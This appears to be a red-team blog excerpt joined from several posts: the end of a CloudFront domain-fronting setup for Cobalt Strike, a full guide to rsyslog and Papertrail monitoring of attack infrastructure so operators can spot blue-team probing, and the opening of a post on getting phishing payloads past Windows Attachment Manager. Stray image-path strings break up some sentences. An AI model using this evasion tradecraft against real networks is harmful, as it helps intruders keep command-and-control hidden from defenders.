Once the domain is resolved to the real domain’s cloudfront service, the SSL key exchange is completed using the original domain’s SSL certificate! That’s right, any defender’s watching this traffic only see the DNS resolution and the SSL certificate exchange with the fronted domain. Your Letsencrypt certificate is used to encrypt traffic from your cloudfront instance to your team server.Once this handshake is complete, the rest of our traffic is directed at the A record of the fronted domain as it should be.




To wrap this up, we’ve successfully deployed SSL domain fronting using a frontable domain, CloudFront, Letsencrypt, and a Cobalt Strike server. This setup is also possible with the Empire project. If you’re a defender looking for threat actors hiding behind domain fronting, you’re going to have a tough time. You may want to rely on busting SSL, watching for off-hours traffic, and other network forensics.

Attack Infrastructure Log Aggregation and Monitoring

This post was co-written by Steve Borosh (@424f424f) and Jeff Dimmock (@bluscreenofjeff).

Monitoring attack infrastructure can prove to be as important as our attacking. Quickly hiding from investigating blue teamers can mean the difference between keeping our interactive command and control (C2) sessions and burning our infrastructure. If you’ve read the Red Team Infrastructure Wiki that Steve and I wrote, you knowwe’re big fans of heavily distributed infrastructure and using redirectors in front of everything. Monitoring becomes increasingly difficult when we have 20+ assets comprising our infrastructure. Luckily for us, this problem was solved a long time ago with rsyslog. In this post, we’ll cover how to monitor a distributedattack infrastructure with rsyslog to help facilitate quicker counter-response actions.


Rsyslog follows a server/client architecture. We will configure a dedicated host as the rsyslog server to receive log entries and parse the logs for meaningful events. Our team servers and web servers will act as the clients and forward their logs to the server.

Rsyslog can be configured to forward logs from many different programs. Essentially, if a tool is capable of outputting a regularly-formatted log, the data can be logged to a central server via rsyslog. In thispost, we’ll be focusing on Apache logs to illustrate the concept.

Here’s a diagram of the lab setup:

Lab Setup

TLS Design Considerations

By default, rsyslog is a plaintext protocol; however, it does support SSL/TLS encryption. Configuring this monitoring setup with TLS requires additional steps, including generating a machine cert for each host that will be forwarding logs. The added complexity may or may not be necessary for your setup.

Here are a few factors to think about:

  • How sensitive is the data being transferred? Is it just web traffic?• Any target metadata that shouldn’t be leaked?
  • How ephemeral will the assets be? Each time infrastructure is rolled, reconfiguring TLS may be a significant effort.
  • Can you script the deployment?
  • Do you anticipate any “hacking back” or blue teamers that may attempt to send false log entries if the logging server is discovered?

For more information about setting up rsyslog with TLS, check out the official documentation.

Log Aggregation with Syslog

A big shout out to Gary Rogers for these rsyslog setup instructions. The steps provided in this post are based on Gary’s steps, but modified to meet our needs. Each host requires setup; the logging server to receive the logs and the clients (i.e., our payload server and Cobalt Strike team server) to send the logs to the logging server. In a real setup, the logging server should be independent from any of the attack infrastructure and sufficiently hardened to prevent log tampering.

Logging Server SetupAny *nix host with rsyslog installed should work for this setup, but for the demo we’re using a stock Debian 9 host.

By default, rsyslog sends messages over UDP. We will be using TCP in our setup to decrease the likelihood of entries being lost in transit. To enable TCP on port 514, add the following lines to /etc/rsyslog.conf :

$ModLoad imtcp
$InputTCPServerRun 514

Next, we need to set up local facilities to spool the access and error logs into. Add the following lines to the bottom of the same file:local3.* /var/log/apache2/combined_error.log
local4.* /var/log/apache2/combined_access.log

Reboot the service to apply changes:

service rsyslog restart

Create the files /var/log/apache2/combined_access.log and /var/log/apache2/combined_error.log. Ensure rsyslog can write to the files.

Logging Clients Setup

Each client needs to be setup when the host is provisioned. The redirector and payload server’s setup steps vary slightly from the Cobalt Strike team server’s steps.

Payload Logging Client

Create /etc/rsyslog.d/apache.conf and insert the following text:

$ModLoadimfile

# Default Apache Error Log

$InputFileName /var/log/apache2/error.log
$InputFileTag apache-error-default:
$InputFileStateFile stat-apache-error
$InputFileSeverity info
$InputFileFacility local3

# Default Apache Access Log

$InputFileName /var/log/apache2/access.log
$InputFileTag apache-access-default:
$InputFileStateFile stat-apache-access
$InputFileSeverity info
$InputFileFacility local4
$InputFilePollInterval 1

If you are using a distro that isn’t Debian-based, lines 4 and 12 will differ. These lines should point to the Apache error and access logs,respectively.

Modify /etc/rsyslog.conf, adding the following text to the bottom of the file:

$WorkDirectory /var/lib/rsyslog # where toplace spool files
$ActionQueueFileName fwdRule1 # unique name prefix for spool files
$ActionQueueMaxDiskSpace 1g # 1gb space limit (use as much as possible)
$ActionQueueSaveOnShutdown on # save messages to disk on shutdown
$ActionQueueType LinkedList # run asynchronously
$ActionResumeRetryCount -1 # infinite retries if host is down
local3.* @@ #replace with rsyslog server
local4.* @@ #replace with rsyslog server

Modify the IPs to match the IP of your rsyslog server on the last two lines.

Restart the service:

service rsyslog restart

Cobalt Strike Team Server Logging ClientTo send Cobalt Strike team server weblog activity to our rsyslog server, we will need to use an Aggressor script to spool the weblog’s hits to a log file that roughly matches Apache’s default log format. Use agscript to launch this script on your teamserver:

./agscript syslog-monitor /path/to/apache-style-weblog-output.cna

Create /etc/rsyslog.d/cobalt.conf and insert the following text:

$ModLoad imfile

# Default Cobalt Web Log

$InputFileName /var/log/cobaltstrike/weblog.log
$InputFileTag cobalt-strike-weblog-default:
$InputFileStateFile stat-apache-access
$InputFileSeverity info
$InputFileFacility local4$InputFilePollInterval 1

Modify /etc/rsyslog.conf, adding the following text to the bottom of the file:

$WorkDirectory /var/lib/rsyslog # where to place spool files
$ActionQueueFileName fwdRule1 # unique name prefix for spool files
$ActionQueueMaxDiskSpace 1g # 1gb space limit (use as much as possible)
$ActionQueueSaveOnShutdown on # save messages to disk on shutdown
$ActionQueueType LinkedList # run asynchronously
$ActionResumeRetryCount -1 # infinite retries if host is down
local4.* @@ #replace with rsyslog server

Modify the log path on line 4 to match the weblog.log path on your team server and modify the IPs to match the IP of your rsyslog server on the last line.

Restart the service:

service rsyslog restart


Here’s a demo of the configured combined access log:

Log SampleNotice that the default log entry format for the Apache logging is:

[Timestamp] [Client Hostname] [InputFileTag]: [Apache Request data]

Log Parsing & Monitoring

Now that we have data flowing into our rsyslog server, we need an easy way to pull meaningful event data from the logs. We could, and really should, review the raw logs while attacks are running, butthere’s no reason we shouldn’t make sure important events are highlighted.

There are multiple methods, and indeed an entire industry, to implement effective alerting on log entries. For the purposes of this post, we’ll demonstrate setting up Apache to send our payload hosting logs to Papertrail so that we may keep an eye out forpossible blue team probing.

Papertrail Setup

We’ll need a Papertrail account first. Thankfully, Papertrail offers a pretty decent free package! Once we’ve logged in, we’ll be able to add our first system. Setup is super easy. Papertrail also provides the command for us to start sending our rsyslogs directly to the cloud provider. We’ll need to follow the “Client Setup” section above in this post first to configure rsyslog to grab the Apache access.log.


Papertrail Setup

Once we’ve successfully run the provided install script, our logs should start syncing with Papertrail and we’ll be prompted with “Logs received from: our host”.

With the logs syncing, we can navigate to the “Events” tab in Papertrail. Here we’ll find all of the goodies that rsyslog is forwarding to our Papertrail instance. There is an easy-to-use search bar at the bottom of the screen where we can query against all or specific logging servers.


Here we search for all “GET” requests hitting our redirector.

It’s important to note that Papertrail retains logs for two day(s) and will then archive them for us. Unfortunately, archived logs are not searchable in Papertrail. However, Papertrail makes up for this by allowing us to set up alerts based on your queries! Papertrail supports many platforms for alerting such as SMS, Slack, HipChat, and more. More details can be found here.

Let’s walk through an example alert for any hits against our payload.

First, start by performing a search in the search bar. Once our search is complete, select “Save Search”. We’ll be prompted with the window below.

Papertrail Alert Creation

Enter a catchy title for your search and select the “Save & Setup an Alert” button. You’ll be directed to a page to select the alert platform.Alert Platform Selection

For this setup, we’ll use Slack, because Slack is awesome. Clicking on the “Slack” icon, we are prompted with a page to enter our Slack WebHook URI. Enter it, select your timing interval, and select “Save.” That’s it! We’re done. Once our alert fires,we’ll be prompted in our Slack channel, as shown below:

Sample Slack Alert

As we can see, we are being alerted every minute when our payload URI is hit by the blue team. Though, with rsyslog and Papertrail, we can do much more than payload hit detection. We can use our imagination to alert on things like port probes, SSH login attempts, email logs, etc. Anything we can rsyslog, we can import into Papertrail and alert on.


In this post, we covered how to setup log aggregation with rsyslog and how to create meaningful alerts to detect high-value actions on our attack infrastructure. Rsyslog provides an easy mechanism to forward logs onto a centralized server or third-party log aggregation service, like Papertrail. Actively monitoring our entire distributed red team attack infrastructure throughout an assessment enables us to respond faster to the blue team and change up tactics as they begin burning infrastructure elements.

Bypassing Windows Attachment Manager

Starting with Windows XP Service Pack 2, Microsoft introduced the “Windows Attachment Manager”. This feature will “block” certain file types from being executed afterdownloading over the Internet. “If the attachment is in the list of high risk file types and is from the restricted zone, Windows blocks the user from accessing the file. If the file is from the Internet zone, Windows prompts the user before accessing the file.”* When a file is downloaded from the Internet and it’s one of the high-risk file types, Windows creates an alternate data stream to identify the file and apply the block. I’ll show you this more in a bit.

While this is a great safety feature for end-users, it obviously poses issues when trying to deliver certain phishing payloads on an offensive security engagement. I decided to do a little research on what types of payloads might not get blocked by the Windows Attachment Manager feature.

Starting off, I wanted to find a list of file-types that will be blocked upon download. Microsoft is nice enough to provide this list for us

The types are:


I noticed there’s a few file types that aren’t blocked and began to wonder if we can leverage those non-blocked file types to execute the blocked types.

